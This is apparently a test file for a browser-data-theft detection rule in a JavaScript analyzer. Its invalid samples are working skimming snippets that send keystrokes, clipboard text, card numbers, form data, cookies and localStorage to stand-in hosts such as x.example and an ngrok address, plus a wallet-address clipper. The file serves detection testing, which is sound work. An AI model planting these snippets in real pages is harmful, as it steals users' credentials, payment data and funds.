import rule from '../../rules/browser-data-theft.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

function severities(code: string, profile: 'strict' | 'audit'): string[] {
  const report = analyze(code, { filename: 'x.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity);
}

const KEYLOGGER = 'let keys = "";\ndocument.addEventListener("keydown", (e) => { keys += e.key; });\nsetInterval(() => navigator.sendBeacon("https://x.example/k", keys), 5000);';

describe('browser-data-theft severities', () => {
  it('is an error when the data reaches the network, a warning otherwise', () => {
    assert.deepEqual(severities(KEYLOGGER, 'audit'), ['error']);
    assert.deepEqual(severities('let keys = "";\ndocument.addEventListener("keydown", (e) => { keys += e.key; });', 'audit'), ['warn']);
    assert.deepEqual(severities('navigator.clipboard.readText().then(show);', 'audit'), ['warn']);
    assert.deepEqual(severities('navigator.clipboard.writeText("0x1111111111111111111111111111111111111111");', 'audit'), ['warn']);
  });
});

ruleTester(rule, {
  valid: [
    'document.addEventListener("keydown", (e) => { if (e.key === "Escape") closeModal(); });',
    'input.addEventListener("keyup", (e) => { state.query = e.target.value; search(state.query); });',
    'const pressed = {};\nwindow.addEventListener("keydown", (e) => { pressed[e.code] = true; });',
    'navigator.clipboard.writeText(shareUrl);',
    'fetch("/api/login", { method: "POST", body: JSON.stringify({ password: document.getElementById("password").value }) });',
    'const theme = localStorage.getItem("theme"); fetch("https://api.example.com/prefs?theme=" + theme);',
    'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", getSelection() + "\\nSource: " + location.href); e.preventDefault(); });',
    'fetch("https://api.example.com/me", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } });',
    'const wallet = { address: "0x1111111111111111111111111111111111111111" }; console.log(wallet.address);',
  ],
  invalid: [
    { code: KEYLOGGER, errors: [{ messageId: 'keylogger', line: 2, column: 1, message: 'sendBeacon' }] },
    { code: 'let log = [];\nwindow.addEventListener("keypress", function (e) { log.push(e.key); });', errors: [{ messageId: 'keylogger', line: 2, column: 1, message: 'buffers keystrokes' }] },
    { code: 'var log = "";\ndocument.onkeypress = function (e) { log += String.fromCharCode(e.which); };', errors: [{ messageId: 'keylogger', line: 2, column: 1 }] },
    {
      code: 'var k = "";\n$(document).keypress(function (e) { k += e.key; });\nsetInterval(function () { $.post("https://x.example/k", { k: k }); }, 10000);',
      errors: [{ messageId: 'keylogger', line: 2, column: 1, message: 'Keystrokes' }],
    },
    { code: 'navigator.clipboard.readText().then((t) => fetch("https://x.example", { method: "POST", body: t }));', errors: [{ messageId: 'clipboardRead', line: 1, column: 1, message: 'fetch' }] },
    { code: 'const t = await navigator.clipboard.readText();', filename: 'x.mjs', errors: [{ messageId: 'clipboardRead', line: 1, column: 17 }] },
    {
      code: 'document.addEventListener("paste", (e) => fetch("https://x.example/p?d=" + e.clipboardData.getData("text")));',
      errors: [{ messageId: 'clipboardRead', line: 1, column: 1 }],
    },
    {
      code: 'document.addEventListener("copy", (e) => {\n  const text = window.getSelection().toString();\n  if (/^0x[a-fA-F0-9]{40}$/.test(text)) { e.clipboardData.setData("text/plain", "0x1111111111111111111111111111111111111111"); e.preventDefault(); }\n});',
      errors: [{ messageId: 'clipboardHijack', line: 3, column: 43, message: 'clipper' }],
    },
    { code: 'navigator.clipboard.writeText("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh");', errors: [{ messageId: 'clipboardHijack', line: 1, column: 1 }] },
    {
      code: 'const card = document.querySelector("#cc-number").value;\nnew Image().src = "https://x.example/c.gif?d=" + btoa(card);',
      errors: [{ messageId: 'formSkimming', line: 1, column: 14, message: 'Form data' }],
    },
    {
      code: 'document.addEventListener("submit", (e) => {\n  const d = new FormData(e.target);\n  fetch("https://abc.ngrok.io/s", { method: "POST", body: JSON.stringify(Object.fromEntries(d)) });\n});',
      errors: [{ messageId: 'formSkimming', line: 1, column: 1 }],
    },
    { code: 'fetch("https://x.example/c", { method: "POST", body: document.cookie });', errors: [{ messageId: 'cookieHarvest', line: 1, column: 54 }] },
    { code: 'const ws = new WebSocket("wss://x.example");\nws.onopen = () => ws.send(JSON.stringify(localStorage));', errors: [{ messageId: 'storageHarvest', line: 2, column: 42 }] },
  ],
});
